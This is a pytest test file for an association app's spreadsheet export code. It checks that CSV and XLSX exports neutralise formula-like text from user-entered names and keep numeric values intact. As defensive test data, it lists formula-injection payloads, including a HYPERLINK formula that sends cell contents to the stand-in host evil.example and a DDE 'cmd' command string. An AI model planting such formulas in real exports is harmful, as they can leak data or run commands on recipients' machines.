"""Spreadsheet exports never hand a spreadsheet a formula: in every column, header and footer
included, whatever people typed into names; numbers stay numbers."""

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from association import spreadsheets
from association.tenancy import scopes_disabled
from members.models import Municipality
from tests import factories
from tests.members.conftest import make_figures, make_members, make_rule

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1;"klicka")', "\t=1", "@SUM(A1:A2)", "-2+3",
           "+46 70", "\r=2", "  =cmd|' /C calc'!A0"]  # fmt: skip


def _csv(response) -> list[list[str]]:
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    assert "\r\n" in text
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


def _xlsx(response):
    return load_workbook(io.BytesIO(response.content)).active


@pytest.mark.parametrize("value", HOSTILE)
def test_neutralise_quotes_formula_like_text(value):
    assert spreadsheets.neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["Luleå", "Kommun-förbund", "", "2580", 5, Decimal("-3.5")])
def test_neutralise_leaves_ordinary_values(value):
    assert spreadsheets.neutralise(value) == value


def test_csv_neutralises_every_column_and_keeps_numbers():
    response = spreadsheets.csv_response(
        filename="x.csv", title=[HOSTILE[0], "titel"], header=[HOSTILE[2], "b", "c"],
        rows=[[HOSTILE[1], HOSTILE[3], Decimal("-12.50")], [HOSTILE[4], -7, 3]],
        footer=[HOSTILE[5], None, Decimal("1234.00")],
    )  # fmt: skip
    lines = _csv(response)
    assert lines[0] == ["'" + HOSTILE[0], "titel"]
    assert lines[1] == ["'" + HOSTILE[2], "b", "c"]
    assert lines[2] == ["'" + HOSTILE[1], "'-2+3", "-12,50"]  # a number stays a number
    assert lines[3] == ["'+46 70", "-7", "3"]
    assert lines[4] == ["'" + HOSTILE[5], "", "1234,00"]
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    for line in lines:
        for cell in line:
            assert not cell.lstrip().startswith(("=", "+", "@", "\t", "\r")), cell


def test_xlsx_stores_formula_like_text_as_text_and_numbers_as_numbers():
    from django.utils.translation import gettext_lazy

    response = spreadsheets.xlsx_response(
        filename="x.xlsx", title=[HOSTILE[0]], header=[HOSTILE[2], gettext_lazy("b")],
        rows=[[HOSTILE[1], HOSTILE[3], "nolla\x00i\x01texten"],
              [HOSTILE[6], Decimal("-12.50")]],
        footer=["=SUM(B3:B4)", Decimal("1.00")], sheet_title="2024", money_columns=(1,),
    )  # fmt: skip
    sheet = _xlsx(response)
    assert sheet.title == "2024"
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell for cell in cells if cell.data_type == "f"]
    texts = {cell.value: cell for cell in cells if cell.data_type == "s"}
    for value in [HOSTILE[0], HOSTILE[2], HOSTILE[1], HOSTILE[3], HOSTILE[6], "=SUM(B3:B4)"]:
        assert value in texts, value  # the text exactly as typed ...
        assert texts[value].quotePrefix  # ... marked as text, so editing keeps it text
    assert not texts["b"].quotePrefix
    assert sheet["B4"].value == Decimal("-12.50") or sheet["B4"].value == -12.5
    assert sheet["B4"].number_format == "#,##0.00"
    assert sheet["A2"].font.b
    assert sheet["C3"].value == "nollaitexten"  # characters XML cannot carry are dropped


@pytest.mark.django_db
def test_fee_export_neutralises_names_from_people(association, login):
    make_members(association, ["2580"])
    make_figures(["2580"], 2023)
    make_rule(association, name="@SUM(1+1)")
    Municipality.objects.filter(code="2580").update(name='=HYPERLINK("http://evil.example")')
    with scopes_disabled():
        association.name = "-2+3 förbund"
        association.save()
    http = login(factories.make_staff(association, "viewer"))

    lines = _csv(http.get("/norrbotten/medlemmar/avgifter/2024.csv"))
    assert lines[0][0] == "'-2+3 förbund"
    assert lines[0][2].startswith("'@SUM(1+1)")  # the fee rule's name
    member = next(line for line in lines if line[0] == "2580")
    assert member[1] == '\'=HYPERLINK("http://evil.example")'
    assert member[9] == "890800,00"  # 10 000 × 262 000 × 0.34‰

    sheet = _xlsx(http.get("/norrbotten/medlemmar/avgifter/2024.xlsx"))
    rows = list(sheet.iter_rows())
    assert rows[0][0].value == "-2+3 förbund" and rows[0][0].data_type == "s"
    member = next(row for row in rows if row[0].value == "2580")
    assert member[1].value == '=HYPERLINK("http://evil.example")'
    assert member[1].data_type == "s" and member[1].quotePrefix
    assert member[9].value == 890800
